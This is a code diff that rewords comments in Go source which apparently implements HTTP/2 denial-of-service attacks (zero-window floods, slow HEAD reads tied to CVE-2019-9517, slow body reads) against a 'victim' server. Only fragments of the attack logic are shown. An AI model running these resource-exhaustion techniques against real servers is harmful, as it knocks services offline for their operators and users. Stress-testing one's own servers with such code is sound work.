@@ -18,13 +18,13 @@ import (
 // streamsPerConnection is how many streams servers commonly allow at once.
 const streamsPerConnection = 1000
 
-// errClosed says that the server has closed a connection that the attack meant to hold.
+// errClosed means that the server has closed a connection that the attack wanted to hold.
 var errClosed = errors.New("the server has closed the connection")
 
-// redirected is a path that a mux redirects, with the query in the answer's head: large answers for small requests.
+// redirected is a path that a mux redirects, with the query in the answer's head: a large answer to a small request.
 var redirected = "//x?" + strings.Repeat("q", 3900)
 
-// zeroWindow asks for many answers and allows no byte of their bodies.
+// zeroWindow requests many answers and allows no byte of their bodies.
 func zeroWindow(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
@@ -77,10 +77,11 @@ func unreadRefusals(ctx context.Context, v *victim) {
 	})
 }
 
-// slowHeads asks for answers that are all head, which no window bounds, and reads a few bytes now and then (CVE-2019-9517).
+// slowHeads requests answers that consist only of a head, which no window bounds, and reads a few bytes now and then
+// (CVE-2019-9517).
 func slowHeads(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
-		// Without a table the server cannot shorten what it answers. The requests are of one byte a path, after the first.
+		// Without a table the server cannot compress its answers. After the first request, each path takes one byte.
 		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
 		if err != nil {
 			return err
@@ -90,7 +91,7 @@ func slowHeads(ctx context.Context, v *victim) {
 		ended := make(chan error, 1)
 		go func() { ended <- trickle(ctx, f.Conn) }()
 		for {
-			// Not more at once than are answered: the server would refuse the rest.
+			// Send no more at once than the server answers: it would refuse the rest.
 			for range streamsPerConnection / 10 {
 				if _, err := f.request(true, "HEAD", redirected); err != nil {
 					return errors.Join(err, <-ended)
@@ -104,7 +105,7 @@ func slowHeads(ctx context.Context, v *victim) {
 	})
 }
 
-// slowBodies asks for an answer many times, allows all of it, and reads a few bytes now and then.
+// slowBodies requests an answer many times, allows all of it, and reads a few bytes now and then.
 func slowBodies(path string) func(context.Context, *victim) {
 	return func(ctx context.Context, v *victim) {
 		v.each(ctx, func(ctx context.Context) error {
